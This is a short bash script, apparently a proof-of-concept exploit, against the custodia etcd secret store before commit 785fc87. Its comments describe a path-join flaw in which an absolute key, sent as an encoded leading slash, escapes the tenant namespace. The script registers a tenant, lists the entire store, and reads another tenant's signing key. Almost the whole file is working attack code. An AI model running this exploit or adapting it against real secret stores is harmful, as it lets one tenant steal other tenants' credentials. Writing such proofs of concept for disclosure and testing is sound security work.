#!/bin/bash
# Reference exploit: the etcd store (custodia before 785fc87) builds keys with
# os.path.join(namespace, key), and an absolute key replaces the namespace. The HTTP front refuses
# ".." but passes a leading "/" (as %2F): list the whole store, then read another tenant's secret.
set -euo pipefail
base=http://127.0.0.1:9005
# stage: a tenant of our own
key=$(curl -s -X POST "$base/register" | python3 -c 'import json, sys; print(json.load(sys.stdin)["api_key"])')
# stage: list from the root of the store, outside our namespace
names=$(curl -s -H "Authorization: Bearer $key" "$base/secrets/%2F")
secret=$(printf '%s' "$names" | python3 -c 'import json, sys; print(next(n for n in json.load(sys.stdin) if n.endswith("signing-key")))')
# stage: read it by its absolute key
curl -s -H "Authorization: Bearer $key" "$base/secrets/%2F${secret//\//%2F}"
